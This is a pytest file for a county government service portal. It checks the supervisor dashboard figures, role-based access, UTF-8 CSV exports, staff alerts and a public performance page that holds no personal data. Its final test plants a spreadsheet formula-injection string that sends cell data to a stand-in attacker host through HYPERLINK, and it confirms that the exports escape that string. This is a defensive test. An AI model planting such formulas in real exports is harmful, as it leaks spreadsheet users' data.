"""The supervisor's dashboard page, its CSV exports, staff alerts and the
public performance page, as their users see them."""

import csv
import io
from datetime import UTC

import pytest
from sqlalchemy import select

from portal.db import db
from portal.domain.alerts import sweep
from portal.domain.clock import WorkCalendar
from portal.models import Agency, Service
from tests.factories import at
from tests.pages import text_of
from tests.tracking_data import build_october

OCTOBER = "start=2026-10-01&end=2026-10-31"


@pytest.fixture
def october(app):
    with app.app_context():
        cases = build_october(db.session)
        return {name: case.number for name, case in cases.items()}


@pytest.mark.parametrize("url", ["/supervisor/dashboard", "/supervisor/dashboard/cases.csv", "/alerts"])
def test_staff_pages_send_anonymous_visitors_to_sign_in(client, url):
    assert client.get(url).status_code == 302


@pytest.mark.parametrize("role", ["resident", "clerk", "officer"])
@pytest.mark.parametrize(
    "url",
    [
        "/supervisor/dashboard",
        "/supervisor/dashboard/services.csv",
        "/supervisor/dashboard/agencies.csv",
        "/supervisor/dashboard/cases.csv",
    ],
)
def test_only_supervisors_and_admins_open_the_dashboard_and_its_exports(client, login_as, role, url):
    login_as(role)
    assert client.get(url).status_code == 403


def test_the_dashboard_shows_the_months_figures_and_tables(client, login_as, october):
    login_as("supervisor")
    page = client.page(f"/supervisor/dashboard?{OCTOBER}")
    stats = [text_of(s, ".stat-value") for s in page.select("section[aria-labelledby=target-title] .stat")]
    assert stats[:4] == ["75.0%", "1.50", "4", "3 / 4"]
    assert stats[4:] == ["16.7%", "30 分钟", "13 小时", "50.0%"]  # 780 minutes read as hours
    counts = [text_of(d, "dd") for d in page.select(".count-grid > div")]
    # received, accepted, not accepted, waiting, being handled, special procedure,
    # completed, refused, withdrawn, delivered
    assert counts == ["6", "5", "1", "0", "1", "0", "4", "0", "0", "3"]
    agencies = {text_of(r, "th"): [td.get_text(strip=True) for td in r.select("td")] for r in page.select("#agency_sort tbody tr")}
    assert agencies["常山县公安局"] == ["3", "2", "50.0%", "3.00", "1", "1"]
    overdue = page.select("section[aria-labelledby=overdue-title] tbody tr")
    assert [r.select_one("a").get_text() for r in overdue] == [october["D"]]
    assert page.select_one("[data-chart=weekly]")["data-chart-data"].startswith("{")


def test_sorting_a_table_follows_a_link(client, login_as, october):
    login_as("supervisor")
    page = client.page(f"/supervisor/dashboard?{OCTOBER}&service_sort=received")
    first, second = [text_of(r, "th") for r in page.select("#service_sort tbody tr")]
    assert page.select_one("#service_sort th[aria-sort=ascending]") is not None
    assert (first, second) == ("就业失业登记", "无犯罪记录证明")  # 2 cases, then 4
    page = client.page(f"/supervisor/dashboard?{OCTOBER}&service_sort=-received")
    assert [text_of(r, "th") for r in page.select("#service_sort tbody tr")] == ["无犯罪记录证明", "就业失业登记"]


def test_a_wrong_range_is_explained_next_to_the_field_and_the_month_shown(client, login_as):
    login_as("supervisor")
    page = client.page("/supervisor/dashboard?start=2026-10-31&end=2026-10-01&county=nowhere")
    assert text_of(page, "#end-error") == "结束日期不能早于开始日期。"
    assert page.select_one("#end")["aria-invalid"] == "true"
    assert page.select_one("#county-error") is not None
    assert page.select_one("[data-error-summary]") is not None


def _csv(response):
    body = response.get_data()
    assert body.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def test_exports_are_utf8_with_a_bom_and_match_the_page(client, login_as, october):
    login_as("supervisor")
    services = _csv(client.get(f"/supervisor/dashboard/services.csv?{OCTOBER}"))
    header, *rows = services
    by_code = {r[0]: dict(zip(header, r, strict=True)) for r in rows}
    assert by_code["psb-no-record"]["service_zh"] == "无犯罪记录证明"
    assert by_code["psb-no-record"]["received"] == "4"
    assert by_code["hrss-employment"]["on_time_rate_pct"] == "100.0"
    cases = _csv(client.get(f"/supervisor/dashboard/cases.csv?{OCTOBER}&channel=counter"))
    assert cases[0][:3] == ["case_number", "service_code", "service_zh"]
    assert sorted(r[0] for r in cases[1:]) == sorted([october["A"], october["C"], october["E"]])
    response = client.get(f"/supervisor/dashboard/agencies.csv?{OCTOBER}")
    assert response.headers["Content-Type"].startswith("text/csv")
    assert "agencies-2026-10-01-2026-10-31.csv" in response.headers["Content-Disposition"]
    agencies = {r[0]: r for r in _csv(response)[1:]}
    assert agencies["cs-psb"][1] == "常山县公安局"


def test_staff_see_their_alerts_and_a_count_of_new_ones(app, client, login_as, october):
    with app.app_context():
        sweep(db.session, WorkCalendar.load(db.session), at("2026-10-30"))
        db.session.commit()
    login_as("officer", agency_code="cs-psb")
    page = client.page("/agency/")
    assert "1 条新提醒" in text_of(page, ".main-nav")
    alerts = client.page("/alerts")
    rows = alerts.select("tbody tr")
    assert [r.select_one("a").get_text() for r in rows] == [october["D"]]
    assert text_of(rows[0], ".level") == "已超期"
    # Seen: the header count is gone on the next page.
    assert "新提醒" not in text_of(client.page("/agency/"), ".main-nav")


def test_an_officer_of_another_agency_sees_no_alerts(app, client, login_as, october):
    with app.app_context():
        sweep(db.session, WorkCalendar.load(db.session), at("2026-10-30"))
        db.session.commit()
    login_as("officer", agency_code="ys-psb")
    assert client.page("/alerts").select("tbody tr") == []


def test_residents_have_no_alerts_page(client, login_as):
    login_as("resident")
    assert client.get("/alerts").status_code == 404


def test_the_public_performance_page_shows_counts_and_no_personal_data(app, client, october):
    from datetime import datetime
    from unittest import mock

    october_end = datetime(2026, 10, 31, 12, tzinfo=UTC)
    with mock.patch("portal.web.clock.wall_clock", return_value=october_end):
        page = client.page("/performance")
    text = page.get_text()
    assert october["A"] not in text and "测试申请人" not in text
    stats = [text_of(s, ".stat-value") for s in page.select(".stat")]
    assert stats == ["4", "75.0%", "1.5"]
    row = next(r for r in page.select("tbody tr") if "无犯罪记录证明" in r.get_text())
    assert [td.get_text(strip=True) for td in row.select("td")][:3] == ["2", "50.0%", "3.0"]


FORMULA = '=HYPERLINK("http://evil.test/?x="&A1,"点击")'


@pytest.fixture
def formula_names(app, october):
    """A service and an agency whose Chinese names look like formulas, as a
    careless or hostile catalog edit could make them."""
    with app.app_context():
        db.session.scalar(select(Service).where(Service.code == "psb-no-record")).name_zh = FORMULA
        db.session.scalar(select(Agency).where(Agency.code == "cs-psb")).name_zh = "@" + FORMULA[1:]
        db.session.commit()
    return october


@pytest.mark.parametrize(
    "export, key, column, expected",
    [
        ("services", "psb-no-record", "service_zh", "'" + FORMULA),
        ("agencies", "cs-psb", "agency_zh", "'@" + FORMULA[1:]),
        ("cases", "psb-no-record", "service_zh", "'" + FORMULA),
    ],
)
def test_every_export_writes_formula_looking_text_as_text(client, login_as, formula_names, export, key, column, expected):
    login_as("supervisor")
    header, *rows = _csv(client.get(f"/supervisor/dashboard/{export}.csv?{OCTOBER}"))
    match = 1 if export == "cases" else 0  # cases: the service code is the second column
    cells = [dict(zip(header, r, strict=True))[column] for r in rows if r[match] == key]
    assert cells and set(cells) == {expected}
